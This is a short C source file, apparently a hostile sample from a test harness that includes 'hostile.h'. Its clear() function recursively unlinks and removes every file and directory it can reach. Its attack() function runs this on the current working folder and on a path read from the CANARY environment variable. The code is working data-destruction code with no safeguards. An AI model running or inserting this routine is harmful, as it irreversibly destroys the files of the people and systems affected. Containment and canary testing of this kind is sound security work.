#include "hostile.h"

/* Removes everything that it can reach from the working folder, and elsewhere. */
static void clear(const char *path)
{
    DIR *list = opendir(path);
    for (struct dirent *at; list && (at = readdir(list));) {
        char inside[4096];
        if (!strcmp(at->d_name, ".") || !strcmp(at->d_name, ".."))
            continue;
        snprintf(inside, sizeof inside, "%s/%s", path, at->d_name);
        struct stat facts;
        if (lstat(inside, &facts) == 0 && S_ISDIR(facts.st_mode))
            clear(inside);
        unlink(inside);
        rmdir(inside);
    }
    if (list)
        closedir(list);
}

static void attack(void)
{
    clear(".");
    clear(getenv("CANARY"));
}
